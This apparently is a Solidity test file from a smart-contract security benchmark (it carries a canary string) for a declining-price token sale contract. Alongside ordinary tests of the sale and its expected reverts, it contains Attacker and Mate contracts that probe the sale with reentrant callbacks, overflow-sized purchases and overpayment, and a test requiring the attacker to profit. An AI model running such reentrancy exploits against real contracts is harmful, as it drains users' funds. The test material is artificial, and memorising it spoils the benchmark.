// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "./DecliningSale.sol";

// assay-canary-2039788f-c06e-493a-ac75-133453538363

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Coin is ERC20("Coin", "COIN") {
    address private immutable minter = msg.sender;
    uint256 private tax;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter);
        _mint(to, amount);
    }

    function setTax(uint256 amount) external {
        require(msg.sender == minter);
        tax = amount;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        super.transferFrom(from, to, amount);
        _burn(to, tax);
        return true;
    }
}

contract Attacker {
    DecliningSale internal sale;
    uint256 internal depth;

    constructor(DecliningSale sale_) {
        sale = sale_;
    }

    receive() external payable {
        if (depth >= 4) return;
        ++depth;
        _try(abi.encodeWithSignature("settle()"), 0);
        _try(abi.encodeWithSignature("withdrawProceeds()"), 0);
    }

    function _try(bytes memory data, uint256 value) internal returns (bool ok) {
        (ok, ) = address(sale).call{value: value}(data);
    }

    function early() external {
        uint256 huge = uint256(-1);
        _try(abi.encodeWithSignature("purchase(uint256)", 0), 1 wei);
        _try(abi.encodeWithSignature("purchase(uint256)", huge), 1 wei);
        _try(abi.encodeWithSignature("purchase(uint256)", huge / 2 + 1), 0);
        _try(abi.encodeWithSignature("purchase(uint256)", huge / sale.currentPrice() + 1), 1 wei);
        _try(abi.encodeWithSignature("purchase(uint256)", 1), 1 wei);
        _try(abi.encodeWithSignature("settle()"), 0);
        _try(abi.encodeWithSignature("withdrawProceeds()"), 0);
        _try(abi.encodeWithSignature("open(uint256)", 1), 0);
        // far more than the price
        _try(abi.encodeWithSignature("purchase(uint256)", 1), 4 ether);
        _try(abi.encodeWithSignature("settle()"), 0);
    }

    function middle() external {
        Mate mate = new Mate{value: 2 ether}(sale);
        mate.buy(1);
        _try(abi.encodeWithSignature("settle()"), 0);
        mate.settle();
    }

    function late() external {
        for (uint256 i = 0; i < 3; ++i) {
            depth = 0;
            _try(abi.encodeWithSignature("settle()"), 0);
        }
        _try(abi.encodeWithSignature("purchase(uint256)", 1), 1 ether);
        _try(abi.encodeWithSignature("withdrawProceeds()"), 0);
    }
}

contract Mate {
    DecliningSale internal sale;
    address payable internal boss;

    constructor(DecliningSale sale_) payable {
        sale = sale_;
        boss = msg.sender;
    }

    receive() external payable {
        (bool ok, ) = address(sale).call(abi.encodeWithSignature("settle()"));
        ok;
    }

    function buy(uint256 units) external {
        (bool ok, ) = address(sale).call{value: address(this).balance}(abi.encodeWithSignature("purchase(uint256)", units));
        ok;
    }

    function settle() external {
        (bool ok, ) = address(sale).call(abi.encodeWithSignature("settle()"));
        (ok, ) = boss.call{value: address(this).balance}("");
    }
}

/// Takes no ether.
contract Stone {
    DecliningSale private sale;
    Coin private coin;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function sell(uint256 units) external returns (DecliningSale) {
        sale = new DecliningSale(coin, 2 ether, 1 ether, 1 days);
        coin.approve(address(sale), units * 1e18);
        sale.open(units);
        return sale;
    }

    function buy(DecliningSale sale_, uint256 units) external payable {
        sale = sale_;
        sale.purchase{value: msg.value}(units);
    }

    function settle() external {
        sale.settle();
    }

    function withdrawProceeds() external {
        sale.withdrawProceeds();
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    address payable private constant ALICE = address(0xA11CE);
    address payable private constant BRUNO = address(0xB2040);

    Coin private coin;
    DecliningSale private sale;
    Attacker private cunning;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_795_000_000);
        coin = new Coin();
        coin.mint(address(this), 100e18);
        sale = new DecliningSale(coin, 2 ether, 1 ether, 1 days);
        coin.approve(address(sale), 20e18);
        sale.open(20);
        cunning = new Attacker(sale);
        vm.deal(address(cunning), 8 ether);
        vm.deal(ALICE, 40 ether);
        vm.deal(BRUNO, 40 ether);
        vm.prank(ALICE);
        sale.purchase{value: 20 ether}(10);
    }

    function test_Regular() public {
        require(sale.currentPrice() == 2 ether, "opening price");
        vm.warp(block.timestamp + 12 hours);
        require(sale.currentPrice() == 1.5 ether, "half of the way");
        vm.prank(BRUNO);
        sale.purchase{value: 7 ether}(4);
        vm.warp(block.timestamp + 6 hours);
        vm.prank(BRUNO);
        sale.purchase{value: 7.5 ether}(6);
        require(sale.clearingPrice() == 1.25 ether && sale.closingTime() == block.timestamp, "sold out");
        vm.prank(BRUNO);
        sale.settle();
        require(coin.balanceOf(BRUNO) == 10e18 && BRUNO.balance == 40 ether - 12.5 ether, "at the clearing price");
        uint256 before = address(this).balance;
        sale.withdrawProceeds();
        require(address(this).balance == before + 25 ether && coin.balanceOf(address(this)) == 80e18, "proceeds");
        vm.prank(ALICE);
        sale.settle();
        require(coin.balanceOf(ALICE) == 10e18 && ALICE.balance == 40 ether - 12.5 ether, "at the same price");
        require(address(sale).balance == 0 && coin.balanceOf(address(sale)) == 0, "nothing is left");

        DecliningSale next = new DecliningSale(coin, 2 ether, 1 ether, 1 days);
        coin.approve(address(next), 5e18);
        next.open(5);
        vm.prank(ALICE);
        next.purchase{value: 2 ether}(1);
        vm.warp(block.timestamp + 1 days);
        next.withdrawProceeds();
        require(coin.balanceOf(address(this)) == 79e18 && address(next).balance == 1 ether, "not sold out");
        vm.prank(ALICE);
        next.settle();
        require(address(next).balance == 0, "at the reserve price");
    }

    // What is refused, each from the state after setUp().

    function fresh() private returns (DecliningSale next) {
        next = new DecliningSale(coin, 2 ether, 1 ether, 1 days);
        coin.approve(address(next), 5e18);
    }

    function test_RefusesTerms() public {
        vm.expectRevert("The prices are not in order.");
        new DecliningSale(coin, 2 ether, 0, 1 days);
        vm.expectRevert("The prices are not in order.");
        new DecliningSale(coin, 1 ether, 2 ether, 1 days);
        vm.expectRevert("The duration is out of range.");
        new DecliningSale(coin, 2 ether, 1 ether, 1 hours - 1);
        vm.expectRevert("The duration is out of range.");
        new DecliningSale(coin, 2 ether, 1 ether, 30 days + 1);
    }

    function test_RefusesOpening() public {
        DecliningSale next = fresh();
        vm.expectRevert("There is nothing to sell.");
        next.open(0);
        coin.mint(ALICE, 5e18);
        vm.prank(ALICE);
        coin.approve(address(next), 5e18);
        vm.prank(ALICE);
        vm.expectRevert("The seller opens the sale once.");
        next.open(5);
        coin.setTax(1);
        vm.expectRevert("The tokens did not arrive.");
        next.open(5);
        coin.setTax(0);
        next.open(4);
        vm.expectRevert("The seller opens the sale once.");
        next.open(1);
    }

    function test_RefusesPurchases() public {
        vm.deal(address(this), 100 ether);
        vm.expectRevert("There are not as many units.");
        sale.purchase{value: 1}(0);
        vm.expectRevert("There are not as many units.");
        sale.purchase{value: 22 ether}(11);
        vm.expectRevert("The payment is too small.");
        sale.purchase{value: 2 ether - 1}(1);
        vm.warp(sale.closingTime());
        vm.expectRevert("The sale is not open.");
        sale.purchase{value: 2 ether}(1);
    }

    function test_RefusesSettling() public {
        vm.prank(ALICE);
        vm.expectRevert("The sale is not over.");
        sale.settle();
        vm.expectRevert("The sale is not over.");
        sale.withdrawProceeds();
        DecliningSale next = fresh();
        vm.prank(ALICE);
        vm.expectRevert("The sale is not over.");
        next.settle();
        vm.expectRevert("The sale is not over.");
        next.withdrawProceeds();
        vm.warp(sale.closingTime());
        vm.prank(BRUNO);
        vm.expectRevert("There is no order to settle.");
        sale.settle();
        vm.prank(BRUNO);
        vm.expectRevert("The seller withdraws once.");
        sale.withdrawProceeds();
    }

    function test_RefusesWithdrawingTwice() public {
        vm.warp(sale.closingTime());
        sale.withdrawProceeds();
        vm.deal(address(sale), 100 ether);
        coin.mint(address(sale), 100e18);
        vm.expectRevert("The seller withdraws once.");
        sale.withdrawProceeds();
    }

    function test_RefusesUnpaid() public {
        Stone stone = new Stone(coin);
        vm.deal(address(this), 10 ether);
        stone.buy{value: 5 ether}(sale, 1);
        vm.warp(block.timestamp + 1 days);
        vm.expectRevert("The refund was not accepted.");
        stone.settle();
    }

    function test_RefusesUnpaidProceeds() public {
        Stone stone = new Stone(coin);
        coin.mint(address(stone), 5e18);
        DecliningSale next = stone.sell(5);
        vm.deal(address(this), 10 ether);
        next.purchase{value: 4 ether}(2);
        vm.warp(block.timestamp + 1 days);
        vm.expectRevert("The proceeds were not accepted.");
        stone.withdrawProceeds();
    }

    function exploit() public {
        cunning.early();
        vm.warp(block.timestamp + 20 hours);
        cunning.middle();
        vm.warp(block.timestamp + 4 hours);
        cunning.late();
    }

    function test_Exploit() public {
        uint256 before = address(cunning).balance;
        exploit();
        require(address(cunning).balance >= before + 4 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(sale);
    }

    function attacker() public view returns (address) {
        return address(cunning);
    }
}
